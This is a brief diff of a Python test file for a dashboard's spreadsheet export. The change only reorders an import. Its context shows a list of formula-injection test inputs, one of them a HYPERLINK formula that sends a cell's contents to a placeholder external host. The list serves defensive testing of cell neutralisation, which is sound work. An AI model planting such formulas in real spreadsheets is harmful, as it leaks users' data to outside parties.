@@ -15,8 +15,8 @@ import pytest
 
 from dashboard.runs import table as runs_table
 from mtlcore.cli import main
-from mtlcore.spreadsheet import FORMULA_STARTS, neutralise
 from mtlcore.runs.store import RunStore
+from mtlcore.spreadsheet import FORMULA_STARTS, neutralise
 
 HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "plain", "a=b"]
